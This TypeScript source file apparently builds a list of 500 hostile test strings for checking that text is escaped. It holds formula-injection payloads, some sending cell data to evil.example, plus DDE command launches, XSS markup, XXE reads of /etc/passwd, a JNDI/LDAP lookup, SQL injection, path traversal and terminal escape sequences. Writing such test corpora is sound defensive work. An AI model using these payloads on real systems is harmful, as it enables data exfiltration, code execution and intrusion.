/**
 * 500 strings that break in where text is not escaped: formulas, markup, headers, templates, paths,
 * and signs that do not print. Built from payloads and the surroundings in which they bite.
 */

const FORMULAS = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://evil.example/?"&A1,"open")',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example")',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
];
const FORMULA_STARTS = [
  '=',
  '+',
  '-',
  '@',
  ' =',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200b=',
  "'=",
  '"=',
  ';=',
];

const SCRIPT = 'alert(1)';
const MARKUP = [
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<svg/onload=${SCRIPT}>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<at>Everyone</at>',
  '<at id="0">Ann</at>',
  '<w:p><w:r><w:t>x</w:t></w:r></w:p>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<!--',
  '<![CDATA[x]]>',
  ']]>',
  '<?xml version="1.0"?>',
];
const MARKUP_SURROUNDINGS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</w:t></w:r></w:p>',
  '--></td></tr></table>',
];

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](http://evil.example "t")',
  '![x](http://evil.example/p.png)',
  '<http://evil.example>',
  '**bold** _em_ ~~gone~~',
  '# heading',
  '> quote',
  '- item\n- item',
  '1. item',
  '| a | b |\n|---|---|',
  '```\ncode\n```',
  '`code`',
  '[x]: http://evil.example',
  '\\[x\\](y)',
];
const MARKDOWN_SURROUNDINGS = ['', 'see ', '\n\n', '    ', '> '];

const HEADERS = [
  'Bcc: all@evil.example',
  'Set-Cookie: a=b',
  'Content-Type: text/html',
  'BEGIN:VALARM',
  'DTSTART:19700101',
];
const LINE_BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
  '%0d%0a',
  '\\r\\n',
  '\r\n\r\n',
];

const EXPRESSIONS = [
  '7*7',
  'process.env',
  'constructor.constructor("return 1")()',
  '$root',
  'jndi:ldap://evil.example/a',
];
const TEMPLATES: readonly (readonly [string, string])[] = [
  ['${', '}'],
  ['{{', '}}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['$(', ')'],
  ['`', '`'],
  ['%{', '}'],
  ['{{DATE(', ', SHORT)}}'],
];

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE members;--",
  '" OR ""="',
  "1' UNION SELECT NULL--",
  "admin'/*",
  "\\'; DELETE",
  '%00',
  "');--",
];
const SQL_SURROUNDINGS = ['', 'Ann', '1', '\\'];

const PATHS = ['etc/passwd', 'windows/win.ini', '.env', 'con', 'C:/boot.ini'];
const PATH_STARTS = ['../', '../../../', '..\\..\\', '/', '//', 'file:///', '%2e%2e%2f', '....//', './\0'];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  ' javascript:',
  'javascript&colon;',
];
const SCHEME_ENDS = ['alert(1)', '//%0aalert(1)', '<script>alert(1)</script>'];

const CSV = [
  '"',
  '""',
  '"""',
  'a,b',
  'a;b',
  'a\tb',
  '"a","b"',
  'a\n=1+1',
  '",=1+1,"',
  '";=1+1;"',
  "'",
  '\ufeffsep=;',
  ',',
  '\r\n,',
];

/** Placed in, before and after a word. */
const SIGNS = [
  ...Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)),
  ...'\x7f\x80\x85\x9b\x9f\u00a0\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e',
  ...'\u2060\u2064\u2066\u2067\u2068\u2069\ufeff\ufff9\ufffb\ufffd\ufffe\uffff\ufdd0',
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  '\u{1ffff}',
  '\u{10ffff}',
  '\x1b[31m',
  '\x1b]0;title\x07',
  '\x1b]8;;http://evil.example\x1b\\',
  '\x9b2J',
  'a\u0300\u0301\u0302\u0303\u0304\u0305',
  '👨‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'שלום',
  'مرحبا',
  '_x000D_',
  '_x0041_',
  '_x005F_x0041_',
  '&amp;lt;',
  '&#60;',
  '&#0;',
  '__proto__',
];

function both(starts: readonly string[], ends: readonly string[]): readonly string[] {
  return starts.flatMap((start) => ends.map((end) => start + end));
}

const generated = [
  ...both(FORMULA_STARTS, FORMULAS),
  ...both(MARKUP_SURROUNDINGS, MARKUP),
  ...SIGNS.flatMap((sign) => [`evil${sign}word`, `${sign}=1+1`]),
  ...both(MARKDOWN_SURROUNDINGS, MARKDOWN),
  ...both(
    LINE_BREAKS.map((lineBreak) => `Autumn${lineBreak}`),
    HEADERS,
  ),
  ...TEMPLATES.flatMap(([open, close]) => EXPRESSIONS.map((expression) => open + expression + close)),
  ...both(SQL_SURROUNDINGS, SQL),
  ...both(PATH_STARTS, PATHS),
  ...both(SCHEMES, SCHEME_ENDS),
  ...CSV,
];

/** Each once, spread evenly over all kinds when there are more than 500. */
const distinct = [...new Set(generated)];
export const HOSTILE_STRINGS: readonly string[] = Array.from(
  { length: 500 },
  (_, index) => distinct[Math.floor((index * distinct.length) / 500)] ?? '',
);
